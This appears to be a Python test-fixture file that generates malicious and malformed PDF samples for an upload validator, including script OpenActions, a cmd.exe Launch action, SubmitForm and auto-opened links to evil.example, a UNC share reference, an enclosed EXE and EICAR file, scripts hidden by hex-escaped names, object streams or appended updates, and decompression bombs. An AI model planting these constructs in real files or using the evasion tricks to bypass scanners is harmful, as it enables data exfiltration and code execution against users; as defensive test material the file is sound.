"""29-51 of the bad uploads: PDFs that act, carry, hide, break or blow up."""

from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import AttachedFileSpec, Encryption, ObjectStreamMode, Pdf

from tests.files.samples import (
    EICAR,
    MIB,
    Sample,
    from_objects,
    pdf,
    stream,
    zeros,
)

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %b>>]"


def saved(data: bytes, change: Callable[[Pdf], None], **how: object) -> bytes:
    """A PDF after a change, written by qpdf."""
    to = BytesIO()
    with pikepdf.open(BytesIO(data)) as opened:
        change(opened)
        opened.save(to, **how)  # type: ignore[arg-type]
    return to.getvalue()


def nothing(opened: Pdf) -> None:
    """Change nothing."""


def enclosing(name: str, content: bytes) -> Callable[[], bytes]:
    """A PDF with a file enclosed."""

    def enclose(opened: Pdf) -> None:
        opened.attachments[name] = AttachedFileSpec(opened, content, filename=name)

    return lambda: saved(pdf(), enclose)


def with_password(*, user: str, owner: str) -> Callable[[], bytes]:
    """A PDF that is encrypted (AES, 256 bits)."""
    passwords = Encryption(user=user, owner=owner)
    return lambda: saved(pdf(), nothing, encryption=passwords)


def in_object_stream() -> bytes:
    """A script that stands packed in an object stream."""
    data = pdf(JS, catalog=b"/OpenAction 6 0 R")
    packed = saved(data, nothing, object_stream_mode=ObjectStreamMode.generate)
    assert b"JavaScript" not in packed
    return packed


def updated() -> bytes:
    """A harmless PDF with a second catalog appended, which has a script."""
    data = pdf()
    before = data.rindex(b"xref\n0 ")
    catalog = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>\nendobj\n"
    action = b"6 0 obj\n" + JS + b"\nendobj\n"
    at = len(data) + len(catalog) + len(action)
    listed = b"xref\n1 1\n%010d 00000 n \n6 1\n%010d 00000 n \n" % (
        len(data),
        len(data) + len(catalog),
    )
    trailer = b"trailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return data + catalog + action + listed + trailer % (before, at)


def cycle() -> bytes:
    """Two nodes of the page tree that are each other's child."""
    return from_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>",
    )


def with_pages(count: int) -> bytes:
    """A PDF of so many pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    return from_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count),
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * count,
    )


def flate_bomb() -> bytes:
    """100 MB of zeros in 100 KB."""
    data = pdf(stream(zeros(100 * MIB), b"/Filter/FlateDecode"))
    assert len(data) < 150_000
    return data


SAMPLES = [
    Sample(
        "29",
        "OpenAction with a script",
        "proof.pdf",
        lambda: pdf(catalog=b"/OpenAction" + JS),
        "script",
        "a script",
    ),
    Sample(
        "30",
        "script by name",
        "proof.pdf",
        lambda: pdf(catalog=b"/Names<</JavaScript<</Names[(a)%b]>>>>" % JS),
        "script",
        "a script",
    ),
    Sample(
        "31",
        "additional action of a page",
        "proof.pdf",
        lambda: pdf(page=b"/AA<</O<</S/URI/URI(https://track.example)>>>>"),
        "automatic",
        "by itself",
    ),
    Sample(
        "32",
        "Launch",
        "proof.pdf",
        lambda: pdf(page=LINK % b"<</S/Launch/F(cmd.exe)>>"),
        "action",
        "start a program",
    ),
    Sample(
        "33",
        "GoToR to a share",
        "proof.pdf",
        lambda: pdf(page=LINK % b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>"),
        "action",
        "open another file",
    ),
    Sample(
        "34",
        "SubmitForm",
        "proof.pdf",
        lambda: pdf(page=LINK % b"<</S/SubmitForm/F(https://evil.example)>>"),
        "action",
        "send off",
    ),
    Sample(
        "35",
        "address opened by itself",
        "proof.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/URI/URI(https://evil.example)>>"),
        "automatic",
        "by itself",
    ),
    Sample(
        "36",
        "EXE enclosed",
        "proof.pdf",
        enclosing("setup.exe", b"MZ\x90\0" + bytes(99)),
        "attachment",
        "other files enclosed",
    ),
    Sample(
        "37",
        "EICAR enclosed",
        "proof.pdf",
        enclosing("eicar.com", EICAR),
        "attachment",
        "other files enclosed",
    ),
    Sample(
        "38",
        "XFA",
        "proof.pdf",
        lambda: pdf(stream(b"<xdp:xdp/>"), catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>"),
        "form",
        "only Adobe Reader",
    ),
    Sample(
        "39",
        "RichMedia",
        "proof.pdf",
        lambda: pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
        "media",
        "video",
    ),
    Sample(
        "40",
        "script on a link",
        "proof.pdf",
        lambda: pdf(page=LINK % JS),
        "script",
        "a script",
    ),
    Sample(
        "41",
        "script in an object stream",
        "proof.pdf",
        in_object_stream,
        "script",
        "a script",
    ),
    Sample(
        "42",
        "script in another spelling",
        "proof.pdf",
        lambda: pdf(page=LINK % b"<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>"),
        "script",
        "a script",
    ),
    Sample("43", "script by update", "proof.pdf", updated, "script", "a script"),
    Sample(
        "44",
        "user password",
        "proof.pdf",
        with_password(user="secret", owner="secret"),
        "password",
        "protected by a password",
    ),
    Sample(
        "45",
        "owner password",
        "proof.pdf",
        with_password(user="", owner="secret"),
        "locked",
        "locked by a password",
    ),
    Sample(
        "46", "half a PDF", "proof.pdf", lambda: pdf()[:500], "damaged", "not complete"
    ),
    Sample("47", "header", "proof.pdf", lambda: b"%PDF-1.7\n", "damaged", "damaged"),
    Sample("48", "Flate bomb", "proof.pdf", flate_bomb, "bomb", "far more"),
    Sample("49", "page tree in a circle", "proof.pdf", cycle, "damaged", "damaged"),
    Sample(
        "50",
        "200,000 nested arrays",
        "proof.pdf",
        lambda: pdf(b"[" * 200_000 + b"]" * 200_000),
        "bomb",
        "far more",
    ),
    Sample(
        "51",
        "3,001 pages",
        "proof.pdf",
        lambda: with_pages(3_001),
        "pages",
        "more than 1,000 pages",
    ),
]
